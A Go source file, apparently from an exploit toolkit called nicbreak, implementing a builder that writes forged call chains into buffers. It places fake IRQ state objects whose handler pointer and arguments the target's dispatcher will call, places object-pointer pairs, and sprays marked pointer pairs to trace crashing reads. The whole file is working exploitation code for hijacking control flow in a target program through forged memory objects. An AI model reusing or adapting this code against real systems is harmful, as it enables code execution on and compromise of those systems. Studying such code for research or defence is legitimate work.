// Package chain writes forged call chains into byte buffers.
//
// The target program later reads the buffer as a graph of objects.
// The builder never holds references to those objects: every link is
// an absolute address computed from recovered bases plus a fixed
// offset, stored as a little-endian word at a slot derived from the
// address it will be read from.
//
// A slot for address at has index (at-anchor)/wordSize, where anchor
// is the address that corresponds to the builder's base offset in
// the buffer. Two slot shapes exist:
//
//	handler slot: words index+6, index+7, index+8 =
//	    {handler, arg0, arg1}
//	object pair:  words index, index+1 =
//	    {object0, object1}
//
// A handler slot mirrors an IRQ state object: the dispatcher calls
// handler(arg0, arg1, level) when the slot is raised. An object pair
// mirrors an array of two IRQ pointers fanned out by a split handler.
package chain

import (
	"errors"
	"fmt"

	"gitlab.com/stephen-fox/nicbreak/memory"
)

const (
	// HandlerWord is the word index of the handler pointer relative
	// to the start of a handler slot.
	HandlerWord = 6

	handlerWords = 3
	pairWords    = 2
)

var (
	// ErrMisaligned is returned for slot addresses that are below
	// the anchor or not word aligned relative to it.
	ErrMisaligned = errors.New("slot address is not word aligned to the anchor")

	// ErrOutOfRange is returned for slots that do not fit the buffer.
	ErrOutOfRange = errors.New("slot is outside of the buffer")
)

// NewBuilder returns a Builder that writes into buf. The word at byte
// baseOffset corresponds to the address anchor.
func NewBuilder(buf []byte, baseOffset int, anchor uint64, pm memory.PointerMaker) *Builder {
	return &Builder{
		buf:    buf,
		base:   baseOffset,
		anchor: anchor,
		pm:     pm,
	}
}

// Builder writes chain slots into a buffer.
type Builder struct {
	buf    []byte
	base   int
	anchor uint64
	pm     memory.PointerMaker
}

// Index returns the slot index of at.
func (o *Builder) Index(at uint64) (int, error) {
	size := uint64(o.pm.Size())

	if at < o.anchor || (at-o.anchor)%size != 0 {
		return 0, fmt.Errorf("0x%x relative to anchor 0x%x - %w", at, o.anchor, ErrMisaligned)
	}

	return int((at - o.anchor) / size), nil
}

// Handler writes a handler slot for the object at address at.
func (o *Builder) Handler(at uint64, handler uint64, arg0 uint64, arg1 uint64) error {
	index, err := o.Index(at)
	if err != nil {
		return err
	}

	return o.words(o.base+(index+HandlerWord)*o.pm.Size(), handler, arg0, arg1)
}

// ObjectPair writes two object pointers for the array at address at.
func (o *Builder) ObjectPair(at uint64, obj0 uint64, obj1 uint64) error {
	index, err := o.Index(at)
	if err != nil {
		return err
	}

	return o.words(o.base+index*o.pm.Size(), obj0, obj1)
}

// Spray fills the words from..to-1 of the buffer, counted from the start
// of the buffer rather than the base offset, with pairs of
// (marker+n, pointer) where n counts the pairs written. The markers
// identify which pair a crashing read came from.
func (o *Builder) Spray(from int, to int, marker uint64, pointer uint64) error {
	if from < 0 || from > to {
		return fmt.Errorf("invalid spray range [%d, %d)", from, to)
	}

	for j := from; j < to; j += 2 {
		err := o.words(j*o.pm.Size(), marker+uint64((j-from)/2), pointer)
		if err != nil {
			return err
		}
	}

	return nil
}

func (o *Builder) words(offset int, words ...uint64) error {
	size := o.pm.Size()

	if offset < 0 || offset+len(words)*size > len(o.buf) {
		return fmt.Errorf("%d words at byte offset %d of %d byte buffer - %w",
			len(words), offset, len(o.buf), ErrOutOfRange)
	}

	for i, word := range words {
		err := o.pm.PutAt(o.buf, offset+i*size, word)
		if err != nil {
			return err
		}
	}

	return nil
}
